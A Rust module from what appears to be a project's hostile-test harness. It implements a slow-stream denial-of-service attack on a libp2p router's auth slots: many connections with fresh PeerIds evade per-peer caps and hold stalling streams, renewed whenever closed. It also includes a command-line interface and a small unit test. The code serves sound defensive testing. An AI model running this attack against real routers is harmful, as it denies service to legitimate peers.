//! Attack 1 of issue 17: strangers holding a router's auth slots.
//!
//! From one source IP, `peers` unauthenticated libp2p connections (each
//! with a fresh PeerId, so per-peer caps never meet twice), each holding
//! `streams_per_peer` auth streams that stall: they send one length byte of
//! a request and then nothing, or nothing at all. Whenever the router
//! closes a stream, it is renewed; whenever it closes a connection, a new
//! one (with a new PeerId) replaces it; until `duration` has passed. What
//! it did is returned as counts, so a test can check the attack really ran.

use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;

use agentmesh_proto::protocols::AUTH;
use agentmesh_streams::Control;
use anyhow::Context as _;
use futures::{AsyncReadExt as _, AsyncWriteExt as _, StreamExt as _};
use libp2p::swarm::SwarmEvent;
use libp2p::{Multiaddr, PeerId, StreamProtocol};
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::counts::{Live as _, inc};
use crate::stranger::{self, Dialed, Stranger, peer_of};

/// The length byte a stalling stream sends: a request of 64 bytes that
/// never follow.
const LENGTH_BYTE: u8 = 64;
/// Pause after a dial that did not connect (the router refused it), before
/// the next one: an attacker with nothing to lose would not wait, but a
/// refused dial costs the router nothing and the harness should not spin.
const REDIAL_PAUSE: Duration = Duration::from_millis(100);
/// Pause after an open that failed on a live connection.
const REOPEN_PAUSE: Duration = Duration::from_millis(50);

/// How a stream stalls.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Stall {
    /// One length byte, then nothing: "slow", it sent its first byte.
    LengthByte,
    /// Not a byte: "silent".
    Silent,
    /// Alternately (even streams of a peer silent, odd ones a length byte).
    Mixed,
}

impl Stall {
    /// How stream `i` of a peer stalls: `Silent` or `LengthByte`.
    fn of(self, i: usize) -> Stall {
        match self {
            Stall::Mixed if i.is_multiple_of(2) => Stall::Silent,
            Stall::Mixed => Stall::LengthByte,
            s => s,
        }
    }
}

/// One run of the attack.
#[derive(Debug, Clone)]
pub struct Attack {
    /// The router: `/ip4/A/tcp/P/p2p/ID`.
    pub router: Multiaddr,
    /// The local address every connection leaves from.
    pub source_ip: IpAddr,
    /// Connections held at once (each a fresh PeerId).
    pub peers: usize,
    /// Auth streams each connection holds.
    pub streams_per_peer: usize,
    /// How the streams stall.
    pub stall: Stall,
    /// Wait between a stream's close and its renewal (zero: at once).
    pub renew_delay: Duration,
    /// How long the attack runs.
    pub duration: Duration,
}

crate::counts::counts! {
    /// What one run did.
    pub struct Report (live Counters, attack "router-auth") {
        /// Connections established.
        connections,
        /// Dials that did not end in a connection (refused, or timed out).
        dials_failed,
        /// Connections the router closed.
        connections_closed,
        /// Auth streams opened (negotiated).
        streams_opened,
        /// Opens that failed on a live connection.
        opens_failed,
        /// Streams the router closed (reset, ended, or with their connection).
        streams_closed,
        /// Streams on which the router wrote something before closing (an
        /// answer such as a refusal).
        streams_answered,
    }
}

/// Runs the attack until its duration has passed; returns what it did.
pub async fn run(attack: Attack) -> anyhow::Result<Report> {
    run_until(attack, std::future::pending()).await
}

/// Runs the attack until its duration has passed or `stop` completes,
/// whichever is first; returns what it did.
pub async fn run_until(
    attack: Attack,
    stop: impl std::future::Future<Output = ()>,
) -> anyhow::Result<Report> {
    let router = peer_of(&attack.router).context("the router address must end in /p2p/ID")?;
    let deadline = Instant::now() + attack.duration;
    let counters = Arc::new(Counters::default());
    let attack = Arc::new(attack);
    let mut peers = JoinSet::new();
    for _ in 0..attack.peers {
        let (a, c) = (attack.clone(), counters.clone());
        peers.spawn(async move {
            while Instant::now() < deadline {
                if !connection(&a, router, deadline, &c).await? {
                    tokio::time::sleep(REDIAL_PAUSE.min(a.duration)).await;
                }
            }
            anyhow::Ok(())
        });
    }
    let all_done = async {
        while let Some(done) = peers.join_next().await {
            done.context("attack task")??;
        }
        anyhow::Ok(())
    };
    tokio::select! {
        done = all_done => done?,
        () = stop => {}
    }
    Ok(counters.report())
}

/// One connection with a fresh PeerId and its stalling streams, until the
/// router closes it or the deadline passes. False if it never connected.
async fn connection(
    a: &Attack,
    router: PeerId,
    deadline: Instant,
    c: &Arc<Counters>,
) -> anyhow::Result<bool> {
    let idle = a.duration + Duration::from_secs(1);
    let Stranger { mut swarm, control } =
        match stranger::dial(&a.router, router, a.source_ip, idle, deadline).await? {
            Dialed::Connected(s) => *s,
            Dialed::Failed => {
                inc(&c.dials_failed);
                return Ok(false);
            }
            Dialed::Deadline => return Ok(true),
        };
    inc(&c.connections);
    let mut streams = JoinSet::new();
    for i in 0..a.streams_per_peer {
        let s = StreamLoop {
            control: control.clone(),
            router,
            stall: a.stall.of(i),
            renew_delay: a.renew_delay,
            deadline,
            counters: c.clone(),
        };
        streams.spawn(s.run());
    }
    loop {
        tokio::select! {
            ev = swarm.select_next_some() => {
                if let SwarmEvent::ConnectionClosed { num_established: 0, .. } = ev {
                    inc(&c.connections_closed);
                    break;
                }
            }
            _ = tokio::time::sleep_until(deadline) => break,
        }
    }
    streams.shutdown().await;
    Ok(true)
}

/// One stalling stream, renewed whenever the router closes it.
struct StreamLoop {
    control: Control,
    router: PeerId,
    stall: Stall,
    renew_delay: Duration,
    deadline: Instant,
    counters: Arc<Counters>,
}

impl StreamLoop {
    async fn run(mut self) {
        let c = self.counters.clone();
        while Instant::now() < self.deadline {
            let open = self
                .control
                .open_stream(self.router, StreamProtocol::new(AUTH));
            let mut s = match tokio::time::timeout_at(self.deadline, open).await {
                Err(_) => return,
                Ok(Err(_)) => {
                    inc(&c.opens_failed);
                    tokio::time::sleep(REOPEN_PAUSE).await;
                    continue;
                }
                Ok(Ok(s)) => s,
            };
            inc(&c.streams_opened);
            let sent = match self.stall {
                Stall::LengthByte => {
                    let send = async {
                        s.write_all(&[LENGTH_BYTE]).await?;
                        s.flush().await
                    };
                    send.await.is_ok()
                }
                _ => true,
            };
            if sent {
                let mut buf = [0u8; 512];
                let mut answered = false;
                loop {
                    match tokio::time::timeout_at(self.deadline, s.read(&mut buf)).await {
                        Err(_) => return,
                        Ok(Ok(0)) | Ok(Err(_)) => break,
                        Ok(Ok(_)) => answered = true,
                    }
                }
                if answered {
                    inc(&c.streams_answered);
                }
            }
            inc(&c.streams_closed);
            if !self.renew_delay.is_zero() {
                tokio::time::sleep(self.renew_delay).await;
            }
        }
    }
}

/// `agentmesh-hostile router-auth`: the attack's command line.
#[derive(Debug, Clone, clap::Args)]
pub struct Args {
    /// The router to attack: /ip4/A/tcp/P/p2p/ID.
    #[arg(long)]
    pub router: Multiaddr,
    /// Local address every connection leaves from (any of 127.0.0.0/8 on loopback).
    #[arg(long)]
    pub source_ip: IpAddr,
    /// Connections held at once, each with a fresh PeerId, connections.
    #[arg(long, default_value_t = 64)]
    pub peers: usize,
    /// Auth streams each connection holds, streams.
    #[arg(long, default_value_t = 4)]
    pub streams_per_peer: usize,
    /// How the streams stall.
    #[arg(long, value_enum, default_value_t = Stall::LengthByte)]
    pub stall: Stall,
    /// Wait between a stream's close and its renewal, milliseconds (0: at once).
    #[arg(long, default_value_t = 0)]
    pub renew_delay_ms: u64,
    /// How long the attack runs, seconds.
    #[arg(long, default_value_t = 30)]
    pub duration_secs: u64,
}

impl Args {
    /// Runs the attack and returns its report.
    pub async fn run(self) -> anyhow::Result<Report> {
        run(Attack {
            router: self.router,
            source_ip: self.source_ip,
            peers: self.peers,
            streams_per_peer: self.streams_per_peer,
            stall: self.stall,
            renew_delay: Duration::from_millis(self.renew_delay_ms),
            duration: Duration::from_secs(self.duration_secs),
        })
        .await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mixed_streams_alternate_silent_and_slow() {
        let got: Vec<_> = (0..4).map(|i| Stall::Mixed.of(i)).collect();
        assert_eq!(
            got,
            [
                Stall::Silent,
                Stall::LengthByte,
                Stall::Silent,
                Stall::LengthByte
            ]
        );
        assert_eq!(Stall::Silent.of(1), Stall::Silent);
    }
}
